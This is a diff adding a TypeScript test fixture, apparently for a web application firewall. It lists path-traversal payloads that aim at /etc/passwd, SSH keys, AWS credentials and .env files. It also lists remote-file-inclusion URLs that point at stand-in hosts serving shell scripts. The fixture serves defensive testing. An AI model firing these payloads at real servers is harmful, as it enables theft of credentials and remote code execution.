@@ -1,0 +1,27 @@
+import { each, inCookie, inFileName, inForm, inJson, inList, inPath, inQuery, type Sent } from "../request";
+
+/** Files that are not the client's, of this machine (930) and of others (931). */
+export const files: Sent[] = [
+  ...each("930", inQuery, [
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "/proc/self/environ", "....//....//etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd", "/var/log/nginx/access.log", "file:///etc/hosts", "/root/.ssh/id_rsa",
+    "../../manage.py", "/run/secrets/kubernetes.io/../../etc/passwd",
+  ]),
+  ...each("930", inPath, [
+    "/.env", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd", "/api/.svn/entries", "/wp-config.php", "/.DS_Store",
+    "/api/v1/%2e%2e%5c%2e%2e%5cetc/passwd", "/.bash_history", "/static/..%5c..%5cetc/passwd", "/api/v1/orders/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+  ]),
+  ...each("930", inJson, ["../../../../etc/passwd", "/etc/ssh/sshd_config", "..\\..\\boot.ini", "../../proc/1/cmdline"]),
+  ...each("930", inList, ["../../../../../../var/www/../etc/passwd"]),
+  ...each("930", inForm, ["../../../etc/group", "/etc/nginx/nginx.conf"]),
+  ...each("930", inCookie, ["../../../../etc/passwd"]),
+  ...each("930", inFileName, ["../../../../etc/cron.d/evil", "..\\..\\evil.exe"]),
+
+  ...each("931", inQuery, [
+    "http://203.0.113.9/shell.txt?", "https://198.51.100.7:8443/evil.txt", "ftp://203.0.113.9/a.php", "file://etc/passwd?", "http://evil.example/shell.txt?",
+    "ogg://203.0.113.9/x",
+  ]),
+  ...each("931", inForm, ["http://203.0.113.77/c99.txt?"]),
+  ...each("931", inJson, ["https://203.0.113.9/payload?"]),
+  ...each("931", inPath, ["/api/v1/?include(=http://evil.example/x", "/index.php?_CONF[path]=http://evil.example/"]),
+];
